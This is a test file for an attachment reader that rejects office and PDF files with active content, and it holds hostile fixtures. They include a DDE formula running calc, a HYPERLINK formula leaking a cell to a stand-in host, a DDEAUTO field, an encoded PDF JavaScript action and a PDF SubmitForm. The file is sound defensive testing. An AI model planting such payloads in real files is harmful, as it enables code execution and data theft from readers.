import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { readAttachment } from '../../../../server/documents/attachment'
import { makeDocx, makePdf, makeXlsx, paragraph, wordPart } from '../../../support/privacy/files'

const read = (name: string, bytes: Buffer) => readAttachment({ name, bytes, today: '2026-11-24' })

const workbook = (fill: (parts: Record<string, Uint8Array>) => void, formula = 'SUM(A1:A2)') =>
  makeXlsx(book => {
    const sheet = book.addWorksheet('公示')
    sheet.addRow(['本村公示'])
    sheet.getCell('B2').value = { formula, result: 1 }
  }).then(bytes => {
    const parts = unzipSync(bytes)
    fill(parts)
    return Buffer.from(zipSync(parts))
  })

const RELATION = (type: string, target: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`

const withObject = async (object: string): Promise<Buffer> => {
  const latin = (await makePdf([['notice']])).toString('latin1')
  return Buffer.from(
    latin.replace('xref\n0', () => `900 0 obj\n${object}\nendobj\nxref\n0`),
    'latin1',
  )
}

const field = (words: string): Buffer =>
  makeDocx(`<w:p><w:r><w:instrText>${words.slice(0, 3)}</w:instrText></w:r><w:r><w:instrText>${words.slice(3)}</w:instrText></w:r></w:p>`) // prettier-ignore

const ATTACKS: readonly (readonly [what: string, name: string, make: () => Promise<Buffer> | Buffer])[] = [
  ['a formula that starts a program', '表.xlsx', () => workbook(() => undefined, "cmd|' /c calc'!A1")],
  ['a formula that sends a cell away', '表.xlsx', () => workbook(() => undefined, 'HYPERLINK("http://x/"&B2)')],
  ['a formula of another workbook', '表.xlsx', () => workbook(() => undefined, '[1]Sheet1!A1')],
  ['a link to another workbook', '表.xlsx', () => workbook(parts => void (parts['xl/externalLinks/externalLink1.xml'] = strToU8('<a/>')))],
  ['a part that is no part of a workbook', '表.xlsx', () => workbook(parts => void (parts['xl/notes.txt'] = strToU8('x')))],
  ['a template elsewhere', '文.docx', () => makeDocx(paragraph('甲'), { 'word/_rels/settings.xml.rels': RELATION('attachedTemplate', 'http://x/a.dotm') })],
  ['a picture elsewhere', '文.docx', () => makeDocx(paragraph('甲'), { 'word/_rels/document.xml.rels': RELATION('image', 'file://host/a.png') })],
  ['a field that starts a program, in two runs', '文.docx', () => field('DDEAUTO c:\\\\a.exe')],
  ['a chunk of another document', '文.docx', () => makeDocx(paragraph('甲'), { 'word/afchunk.html': '<p>x</p>' })],
  ['a script under an encoded name', '文.pdf', () => withObject('<</S/#4aavaScript/J#53(x)>>')],
  ['a form that sends', '文.pdf', () => withObject('<</S/SubmitForm/F(http://x)>>')],
  ['a file inside', '文.pdf', () => withObject('<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream')],
] // prettier-ignore

test.each(ATTACKS)('%s is refused with what it is', async (_, name, make) => {
  await expect(read(name, await make())).rejects.toMatchObject({
    code: 'file-active',
    message: expect.stringMatching(/文件里有|PDF 里有/) as unknown,
  })
})

test('links to pages, sums and page numbers stay', async () => {
  const sheet = await workbook(() => undefined)
  expect((await read('表.xlsx', sheet)).findings).toEqual([])
  const page = makeDocx(`<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>`, {
    'word/_rels/document.xml.rels': RELATION('hyperlink', 'https://www.example.gov.cn/a'),
  })
  expect((await read('文.docx', page)).findings).toEqual([])
})

test('what no page shows is not kept', async () => {
  const bytes = makeDocx(paragraph('甲'), {
    '_rels/.rels': '<Relationships><Relationship Id="r1" Type="http://x/officeDocument" Target="word/document.xml"/></Relationships>',
    'word/_rels/document.xml.rels':
      '<Relationships><Relationship Id="r1" Type="http://x/settings" Target="settings.xml"/><Relationship Id="r2" Type="http://x/customXml" Target="../customXml/item1.xml"/></Relationships>',
    'word/settings.xml': wordPart('settings', '<w:docVars><w:docVar w:name="v" w:val="13812345678"/></w:docVars><w:zoom/>'),
    'word/header9.xml': wordPart('hdr', paragraph('13812345678')),
    'customXml/item1.xml': '<a b="13812345678"/>',
  }) // prettier-ignore
  const { bytes: kept, findings } = await read('文.docx', bytes)
  const parts = unzipSync(kept)
  expect(findings).toEqual([])
  expect(Object.keys(parts).sort()).toEqual(
    ['[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels', 'word/document.xml', 'word/settings.xml'], // prettier-ignore
  )
  expect(strFromU8(parts['word/settings.xml']!)).toContain('zoom')
  expect(Buffer.concat(Object.values(parts)).toString()).not.toContain('13812345678')
})
